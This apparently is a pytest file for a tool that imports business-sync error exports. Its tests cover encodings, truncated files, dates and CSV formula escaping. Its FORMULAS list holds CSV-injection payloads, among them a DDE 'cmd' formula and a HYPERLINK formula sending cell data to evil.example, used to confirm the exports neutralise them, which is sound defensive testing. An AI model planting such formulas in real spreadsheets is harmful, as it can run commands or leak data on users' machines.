"""Hostile data in exports: formulas for the spreadsheet an admin opens the plan in, wildcards in searches."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from syncanalysis import Workspace
from syncanalysis.actions import execute, plan
from syncanalysis.actions.planfile import PlanFileBackend
from syncanalysis.analysis.records import Selection, count_records, records
from syncanalysis.sources import load_files

T5339_HEADER = ("No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,"
                "Exception Detail,Error Message")
FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def _t5339(n: int, message: Callable[[int], str], logged_at: Callable[[int], str],
           error_message: Callable[[int], str] | None = None) -> list[str]:
    """The header and ``n`` rows of a table 5339 export (CSV lines); the functions give row ``i``'s cells."""
    error_message = error_message or message
    return [T5339_HEADER] + [f"{i},3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C{i},,{message(i)},{logged_at(i)},,"
                             f"{error_message(i)}" for i in range(1, n + 1)]


def _page_5333(path: Path, descriptions: list[str]) -> Path:
    """A page 5333 export (English captions) with one skipped customer line per description."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Table ID", "Table Name", "Description", "Record Exists", "Coupled To", "Coupled Record Exists",
                    "Error Message", "Failed On"])
        for i, d in enumerate(descriptions):
            w.writerow([18, "Customer", d, "Yes", f"Account {i}", "Yes", f"The field Name is too long ({d})",
                        f"11/2{i % 9}/2026 8:00:00 AM"])
    return path


@pytest.fixture
def hostile(tmp_path) -> Workspace:
    ws = Workspace()
    load_files(ws, [_page_5333(tmp_path / "Coupled Data Synchronization Errors.csv", FORMULAS + ["C10000", "50%_off"])],
               environment="E", company="C", progress=False)
    return ws


def test_plan_csv_cells_never_start_a_formula(hostile, tmp_path):
    p = plan(hostile, "retry", Selection(environment="E", company="C"))
    p.backend_impl = PlanFileBackend(tmp_path / "plan.json")
    execute(hostile, p, who="test")
    with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the text is all there, behind the quote Excel hides
    for f in FORMULAS[:5]:
        assert any(c == "'" + f for c in cells), f


def test_search_is_literal_text_not_a_like_pattern(hostile):
    assert count_records(hostile, Selection(search="_")) == 1  # only '50%_off' has an underscore
    assert count_records(hostile, Selection(search="%")) == 1
    assert count_records(hostile, Selection(search="50%_off")) == 1
    assert count_records(hostile, Selection(search="C10000")) == 1


def test_workspace_query_search_is_literal_too(hostile):
    got = hostile.query("skipped_records", search="_", limit=None)
    assert got["description"].tolist() == ["50%_off"]


def test_an_unknown_extra_column_is_ignored_not_taken_for_the_company(tmp_path):
    path = tmp_path / "Integration Synchronization Errors.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["No.", "Date/Time", "Error Message", "Help Link", "Source", "Destination", "Notes"])
        for i in range(5):
            w.writerow([i + 1, f"11/2{i}/2026 8:00:00 AM", f"Customer C{i} must be coupled.", "", "View", "View",
                        f"call Bob {i}"])
    ws = Workspace()
    (report,) = load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.sql("SELECT DISTINCT environment, company FROM job_errors").values.tolist() == [["E", "C"]]
    notes = [c for p in report.parts for c in p["columns"] if c["header"] == "Notes"]
    assert notes and notes[0]["column"] is None and notes[0]["matched_by"] == "unknown"


def test_a_narrower_export_never_cuts_a_stored_message_to_its_prefix(tmp_path):
    long = "The Customer C10000 cannot be synchronized: " + "details " * 200 + "end."  # well over 250 characters
    job = "3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01"
    full, narrow = tmp_path / "Integration Synch. Job Errors.csv", tmp_path / "narrow.csv"
    with full.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["No.", "Integration Synch. Job ID", "Source Record ID", "Destination Record ID", "Message",
                    "Date/Time", "Exception Detail", "Error Message"])
        w.writerow([7, job, "Customer: C10000", "", long[:250], "2026-11-20 08:00:00", "", long])
    with narrow.open("w", newline="", encoding="utf-8") as fh:  # the same table without Error Message
        w = csv.writer(fh)
        w.writerow(["No.", "Integration Synch. Job ID", "Source Record ID", "Destination Record ID", "Message",
                    "Date/Time"])
        w.writerow([7, job, "Customer: C10000", "", long[:250], "2026-11-20 08:00:00"])
    ws = Workspace()
    load_files(ws, [full], environment="E", company="C", progress=False)
    load_files(ws, [narrow], environment="E", company="C", progress=False)
    row = ws.query("job_errors").iloc[0]
    assert row["error_message"] == long and row["message"] == long[:250]


def test_an_empty_folder_or_a_named_pipe_is_refused_with_a_message(tmp_path, capsys):
    import os

    from syncanalysis.cli import main
    from syncanalysis.sources import UnreadableFileError

    empty = tmp_path / "exports"
    empty.mkdir()
    (empty / "readme.md").write_text("not an export", encoding="utf-8")
    with pytest.raises(UnreadableFileError, match="exports: the folder holds no export files"):
        load_files(Workspace(), [empty], progress=False)
    assert main(["load", str(empty), "--workspace", str(tmp_path / "w.duckdb")]) != 0
    assert "holds no export files" in capsys.readouterr().err
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(UnreadableFileError, match="not a regular file"):  # instead of waiting for a writer forever
        load_files(Workspace(), [fifo], progress=False)


def _far_cell_workbook(path: Path, lie: bool) -> Path:
    """A 5 KB page 5339 export with one value at XFD1048576 (with ``lie``: its <dimension> says A1:C3)."""
    import zipfile

    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Errors")
    ws.write_row(0, 0, ["No.", "Date/Time", "Error Message"])
    ws.write_row(1, 0, [1, "11/20/2026 8:00:00 AM", "Customer C1 must be coupled."])
    ws.write(1048575, 16383, "x")
    wb.close()
    if lie:
        src = zipfile.ZipFile(path)
        parts = {i.filename: src.read(i) for i in src.infolist()}
        src.close()
        sheet = "xl/worksheets/sheet1.xml"
        parts[sheet] = parts[sheet].replace(b'<dimension ref="A1:XFD1048576"/>', b'<dimension ref="A1:C3"/>')
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name, data in parts.items():
                out.writestr(name, data)
    return path


@pytest.mark.parametrize("lie", [False, True], ids=["true-dimension", "lying-dimension"])
def test_a_sheet_with_a_far_away_cell_is_refused_instead_of_killing_the_process(tmp_path, lie):
    import resource
    import subprocess
    import sys

    path = _far_cell_workbook(tmp_path / "Integration Synchronization Errors.xlsx", lie)
    code = ("from syncanalysis import Workspace\nfrom syncanalysis.sources import load_files, UnreadableFileError\n"
            f"try:\n    load_files(Workspace(), [{str(path)!r}], progress=False)\n"
            "except UnreadableFileError as e:\n    print('refused:', e)\n")

    def limit() -> None:  # a regression must fail this test, not take the machine's memory
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))

    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, preexec_fn=limit)
    assert run.returncode == 0, run.stderr[-500:]
    assert "refused:" in run.stdout and "1,048,576 rows x 16,384 columns" in run.stdout
    assert "Integration Synchronization Errors.xlsx" in run.stdout


def test_a_plan_file_never_exists_without_its_audit_row_nor_the_reverse(tmp_path):
    import subprocess
    import sys

    from syncanalysis.actions import ActionError

    ws_path = tmp_path / "w.duckdb"
    with Workspace(ws_path) as ws:
        load_files(ws, [_page_5333(tmp_path / "Coupled Data Synchronization Errors.csv", ["C1", "C2"])],
                   environment="E", company="C", progress=False)
    # killed while writing the files: the JSON is written, the kill comes before the Markdown (in the transaction)
    code = (
        "import os\nfrom syncanalysis import Workspace\nfrom syncanalysis.actions import plan, execute\n"
        "from syncanalysis.actions import planfile\nfrom syncanalysis.actions.planfile import PlanFileBackend\n"
        "from syncanalysis.analysis.records import Selection\n"
        "real, calls = planfile._stage, []\n"
        "def stage(path, text):\n    calls.append(path)\n    return real(path, text) if len(calls) == 1 else os._exit(9)\n"
        "planfile._stage = stage\n"
        f"ws = Workspace({str(ws_path)!r})\np = plan(ws, 'retry', Selection())\n"
        f"p.backend_impl = PlanFileBackend({str(tmp_path / 'killed.json')!r})\nexecute(ws, p, who='t')\n")
    assert subprocess.run([sys.executable, "-c", code], timeout=120).returncode == 9
    assert not (tmp_path / "killed.json").exists() and not (tmp_path / "killed.md").exists()
    with Workspace(ws_path) as ws:
        assert ws.count("actions") == 0
        # a write error: a clear message, no audit row, and the next action's plan is its own
        blocker = tmp_path / "not-a-folder"
        blocker.write_text("x", encoding="utf-8")
        p = plan(ws, "retry", Selection())
        p.backend_impl = PlanFileBackend(blocker / "plan.json")
        with pytest.raises(ActionError, match="Cannot write the plan file.*nothing was recorded"):
            execute(ws, p, who="t")
        assert ws.count("actions") == 0
        p.backend_impl = PlanFileBackend(tmp_path / "ok.json")
        result = execute(ws, p, who="t")
        doc = json.loads((tmp_path / "ok.json").read_text(encoding="utf-8"))
        assert doc["action_id"] == result.action_id == 1 and ws.count("actions") == 1
    assert not list(tmp_path.glob(".ok.json.*.tmp"))  # what was staged was published


def test_one_stray_byte_in_a_utf8_file_is_refused_not_read_as_windows_1252(tmp_path):
    from syncanalysis.sources import UnreadableFileError

    rows = ["Table ID,Table Name,Description,Record Exists,Coupled To,Coupled Record Exists,Error Message,Failed On"]
    rows += [f"18,Customer,C{i},Yes,Société Générale {i},Yes,Le champ Nom est trop long,11/20/2026 8:00:00 AM"
             for i in range(20)]
    data = ("\r\n".join(rows) + "\r\n").encode("utf-8")
    stray = data.replace(b"C7,", b"C7\xa0,", 1)  # one Windows-1252 no-break space among UTF-8 text
    path = tmp_path / "Coupled Data Synchronization Errors.csv"
    path.write_bytes(stray)
    ws = Workspace()
    with pytest.raises(UnreadableFileError, match=r"row 9.*UTF-8 but has a byte that is not \(0xA0"):
        load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.count("skipped_records") == 0
    # a real Windows-1252 file (no UTF-8 in it) is still read as such
    path.write_bytes(("\r\n".join(rows) + "\r\n").encode("cp1252"))
    load_files(ws, [path], environment="E", company="C", progress=False)
    assert set(ws.sql("SELECT coupled_to FROM skipped_records")["coupled_to"].str[:16]) == {"Société Générale"}


def test_a_windows_1252_csv_plain_ascii_in_its_first_megabyte_is_read_as_windows_1252(tmp_path):
    # Excel's "CSV" is Windows-1252; a long export can be plain ASCII until a customer called Société
    # (and a ’ that only Windows-1252, not Latin-1, has) appears after the first megabyte
    from syncanalysis.sources import UnreadableFileError

    head = ["Table ID,Table Name,Description,Record Exists,Coupled To,Coupled Record Exists,Error Message,Failed On"]
    plain = [f"18,Customer,C{i},Yes,Contoso {i},Yes,The field Name is too long,11/20/2026 8:00:00 AM"
             for i in range(16_000)]
    late = ["18,Customer,C99999,Yes,Société Générale,Yes,L’adresse est trop longue,11/20/2026 8:00:00 AM"]
    data = ("\r\n".join(head + plain + late) + "\r\n").encode("cp1252")
    assert len(data) > (1 << 20) + 1000 and data.index(b"\xe9") > 1 << 20
    path = tmp_path / "Coupled Data Synchronization Errors.csv"
    path.write_bytes(data)
    ws = Workspace()
    load_files(ws, [path], environment="E", company="C", progress=False)
    got = ws.sql("SELECT coupled_to, error_message FROM skipped_records WHERE description = 'C99999'")
    assert got.iloc[0].tolist() == ["Société Générale", "L’adresse est trop longue"]
    assert ws.count("skipped_records") == 16_001
    # the same late byte in a file with UTF-8 text in it is a stray byte, refused (and nothing written)
    mixed = data.replace(b"Contoso 5,", "Contoso 5 – Société,".encode(), 1)
    path.write_bytes(mixed)
    ws = Workspace()
    with pytest.raises(UnreadableFileError, match="UTF-8 but has a byte that is not"):
        load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.count("skipped_records") == 0


@pytest.mark.parametrize("cut", [12, 40, 71], ids=["inside-a-quoted-message", "after-a-separator", "inside-a-date"])
def test_a_csv_cut_off_in_its_last_row_is_refused_and_changes_nothing(tmp_path, cut):
    from syncanalysis.sources import UnreadableFileError

    rows = _t5339(29, lambda i: f'"The Customer C{i} failed, x"', lambda i: f"2026-11-20 08:00:{i:02d}")
    full = ("\r\n".join(rows) + "\r\n").encode("utf-8")
    path = tmp_path / "Integration Synch. Job Errors.csv"
    path.write_bytes(full)
    ws = Workspace()
    load_files(ws, [path], environment="E", company="C", progress=False)
    before = ws.sql("SELECT * FROM job_errors ORDER BY error_no")
    path.write_bytes(full[:-cut])
    with pytest.raises(UnreadableFileError, match="ends without a line break.*cut off"):
        load_files(ws, [path], environment="E", company="C", progress=False)
    pd.testing.assert_frame_equal(ws.sql("SELECT * FROM job_errors ORDER BY error_no"), before)


def test_reloading_a_page_5338_export_with_its_time_zone_replaces_its_jobs(tmp_path):
    sample = Path(__file__).resolve().parents[1] / "sample_data" / "pages" / "en"
    jobs = next(sample.glob("*Jobs*.xlsx"))
    errors = next(sample.glob("*Errors*.xlsx"))
    ws = Workspace()
    load_files(ws, [jobs, errors], environment="E", company="C", progress=False)  # read as UTC, with a warning
    n, linked = ws.count("jobs"), ws.count("job_errors", filters={"job_inferred": True})
    first = ws.sql("SELECT min(start_datetime) AS t FROM jobs")["t"][0]
    again, _ = load_files(ws, [jobs, errors], environment="E", company="C", progress=False, timezone="Europe/Paris")
    assert ws.count("jobs") == n and again.tables["jobs"].deleted == n  # the same jobs, not twice as many
    assert ws.sql("SELECT min(start_datetime) AS t FROM jobs")["t"][0] == first - pd.Timedelta(hours=2)  # CEST
    assert ws.count("job_errors", filters={"job_inferred": True}) == linked  # the errors follow their jobs
    load_files(ws, [jobs], environment="E", company="C", progress=False, timezone="Europe/Paris")
    assert ws.count("jobs") == n  # and again: nothing new
    load_files(ws, [jobs], environment="E", company="C", progress=False)  # back to UTC: its jobs again, once
    assert ws.count("jobs") == n and ws.sql("SELECT min(start_datetime) AS t FROM jobs")["t"][0] == first


@pytest.mark.parametrize("bad", ["2026-11-20T08:00:00+25:00", "2026-11-20 19:32:26 PM", "46000.5"],
                         ids=["offset-beyond-14h", "24h-time-with-PM", "serial-among-ISO"])
def test_an_impossible_date_in_an_iso_column_is_refused_naming_its_row(tmp_path, bad):
    from syncanalysis.sources import ValueParseError

    rows = _t5339(10, lambda i: f"m{i}", lambda i: bad if i == 10 else f"2026-11-20T08:00:{i:02d}Z")
    path = tmp_path / "Integration Synch. Job Errors.csv"
    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    ws = Workspace()
    with pytest.raises(ValueParseError, match=r"row 11, column 'Date/Time': this value is not a date/time"):
        load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.count("job_errors") == 0


def test_a_nul_byte_after_the_first_megabyte_is_refused(tmp_path):
    from syncanalysis.sources import UnreadableFileError

    rows = _t5339(12000, lambda i: f"The Customer C{i} failed {'x' * 100}", lambda i: "2026-11-20T08:00:00Z",
                  lambda i: f"The Customer C{i} failed")
    rows[11000] = rows[11000].replace("failed", "fai\x00led", 1)
    path = tmp_path / "Integration Synch. Job Errors.csv"
    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    assert path.stat().st_size > 1 << 20
    ws = Workspace()
    with pytest.raises(UnreadableFileError, match=r"row 11001: the file has a NUL byte"):
        load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.count("job_errors") == 0


def test_a_header_separated_otherwise_than_its_rows_is_refused(tmp_path):
    from syncanalysis.sources import UnreadableFileError

    path = tmp_path / "errors.csv"
    path.write_text("No.;Date/Time;Error Message\r\n" + "".join(
        f"{i},11/2{i % 9}/2026 8:00:00 AM,msg {i}\r\n" for i in range(10)), encoding="utf-8")
    with pytest.raises(UnreadableFileError, match="header row is separated by ';' but the rows by ','"):
        load_files(Workspace(), [path], progress=False)


def test_a_field_longer_than_128_kb_near_the_start_is_read(tmp_path):
    stack = "Call stack line\\n" * 10_000  # 160 KB: more than Python's csv allows by default
    path = tmp_path / "Integration Synch. Job Errors.csv"
    path.write_text("No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,"
                    "Exception Detail,Error Message\r\n"
                    f'1,3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C1,,m,2026-11-20 08:00:00,"{stack}",m\r\n',
                    encoding="utf-8")
    ws = Workspace()
    load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.query("job_errors")["exception_detail"][0] == stack


@pytest.mark.parametrize("second", ["other", "same"])
def test_a_repeated_column_is_refused_when_it_differs_and_named_when_it_does_not(tmp_path, second):
    from syncanalysis.sources import UnrecognisedFileError

    path = tmp_path / "errors.csv"
    path.write_text("No.,Date/Time,Error Message,No.\r\n" + "".join(
        f"{i},11/2{i % 9}/2026 8:00:00 AM,msg {i},{i + 100 if second == 'other' else i}\r\n" for i in range(1, 11)),
        encoding="utf-8")
    ws = Workspace()
    if second == "other":
        with pytest.raises(UnrecognisedFileError, match=r"row 2, column 'No.': the column 'No.' appears twice "
                                                         r"\(columns 1 and 4\) with different values in 10 row"):
            load_files(ws, [path], progress=False)
        assert ws.count("job_errors") == 0
    else:
        (report,) = load_files(ws, [path], progress=False)
        assert any("appears twice" in w and "ignored" in w for w in report.warnings)
        assert ws.count("job_errors") == 10


def test_reloading_an_unchanged_file_leaves_the_workspace_file_byte_for_byte_untouched(tmp_path):
    import hashlib

    src = _page_5333(tmp_path / "Coupled Data Synchronization Errors.csv", ["C1", "C2", "C3"])
    path = tmp_path / "w.duckdb"
    with Workspace(path) as ws:
        load_files(ws, [src], environment="E", company="C", progress=False)
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    with Workspace(path) as ws:
        (again,) = load_files(ws, [src], environment="E", company="C", progress=False)
    assert again.load_id is None and any("loaded before, unchanged" in w for w in again.warnings)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before


@pytest.mark.parametrize("header, row, missing", [
    ("Name,Integration Table ID,Direction,Table Filter", "CUSTOMER,5341,Bidirectional,", "'Table ID'"),
    ("CRM ID,Table ID,Last Synch. Result,Skipped", "8b390c24-9c72-e511-80d4-00155d2a68d1,18,Success,No",
     "'Integration ID'"),
], ids=["mappings-without-table-id", "couplings-without-integration-id"])
def test_an_export_without_a_key_column_is_named_for_what_it_is(tmp_path, header, row, missing):
    from syncanalysis.sources import UnrecognisedFileError

    path = tmp_path / "export.csv"
    path.write_text(f"{header}\r\n{row}\r\n", encoding="utf-8")
    with pytest.raises(UnrecognisedFileError, match=f"looks like a .* export .* but lacks the column\\(s\\) {missing}"):
        load_files(Workspace(), [path], progress=False)


def test_a_gzip_export_that_ends_early_is_refused_as_truncated(tmp_path):
    from syncanalysis.sources import UnreadableFileError

    real = Path(__file__).resolve().parents[1] / "sample_data" / "tables" / "Integration Synch. Job Errors.csv.gz"
    cut = tmp_path / "Integration Synch. Job Errors.csv.gz"
    cut.write_bytes(real.read_bytes()[: real.stat().st_size // 2])  # well past the first megabyte read up front
    ws = Workspace()
    with pytest.raises(UnreadableFileError, match="gzip file is truncated or corrupt.*Copy or download the file again"):
        load_files(ws, [cut], environment="E", company="C", progress=False)
    assert ws.count("job_errors") == 0


def test_a_stray_byte_after_the_first_megabyte_is_refused_naming_its_line(tmp_path):
    from syncanalysis.sources import UnreadableFileError

    rows = _t5339(12000, lambda i: f"Société {i} {'x' * 100}", lambda i: "2026-11-20T08:00:00Z",
                  lambda i: f"Société {i}")
    data = ("\r\n".join(rows) + "\r\n").encode("utf-8")
    at = data.find(b"Customer: C11000,")
    path = tmp_path / "Integration Synch. Job Errors.csv"
    path.write_bytes(data[:at] + b"\xe9" + data[at:])  # a Windows-1252 byte deep inside a UTF-8 file
    ws = Workspace()
    with pytest.raises(UnreadableFileError, match=r"row 11001: the file is UTF-8 but has a byte that is not \(0xE9"):
        load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.count("job_errors") == 0


def test_selection_keys_that_are_not_guids_select_nothing_instead_of_failing(hostile):
    keys = (("E", "C", 18, "not-a-guid"), ("E", "C", 18, "{also not}"))
    assert count_records(hostile, Selection(keys=keys)) == 0


def test_act_keys_file_with_environment_and_company_columns(tmp_path, capsys):
    from syncanalysis.cli import main

    ws_path = tmp_path / "w.duckdb"
    with Workspace(ws_path) as ws:
        load_files(ws, [_page_5333(tmp_path / "Coupled Data Synchronization Errors.csv", ["C1", "C2", "C3"])],
                   environment="E", company="C", progress=False)
        r = records(ws, limit=2)
    keys = tmp_path / "keys.csv"
    keys.write_text("environment,company,table_id,integration_id\n" + "".join(
        f"E,C,{t},{i}\n" for t, i in zip(r["table_id"], r["integration_id"])), encoding="utf-8")
    assert main(["act", "retry", "--workspace", str(ws_path), "--keys", str(keys), "--dry-run"]) == 0
    assert "Dry run recorded" in capsys.readouterr().out
    with Workspace(ws_path) as ws:
        targets = ws.sql("SELECT count(*) AS n FROM action_targets")["n"][0]
    assert targets == 2


def test_a_big_endian_utf16_export_is_read(tmp_path):
    rows = ["No.,Date/Time,Error Message"] + [f"{i},11/2{i % 9}/2026 8:00:00 AM,Société {i} {'x' * 200}"
                                               for i in range(1, 40)]
    path = tmp_path / "errors.csv"
    path.write_bytes(b"\xfe\xff" + ("\r\n".join(rows) + "\r\n").encode("utf-16-be"))
    assert path.stat().st_size > 4096
    ws = Workspace()
    load_files(ws, [path], environment="E", company="C", progress=False)
    assert ws.count("job_errors") == 39


def test_a_plan_file_action_inside_a_callers_transaction_is_refused(hostile, tmp_path):
    from syncanalysis.actions import ActionError

    p = plan(hostile, "retry", Selection())
    p.backend_impl = PlanFileBackend(tmp_path / "plan.json")
    with pytest.raises(ActionError, match="its own transaction"), hostile.transaction():
        execute(hostile, p, who="t")
    assert not (tmp_path / "plan.json").exists() and hostile.count("actions") == 0
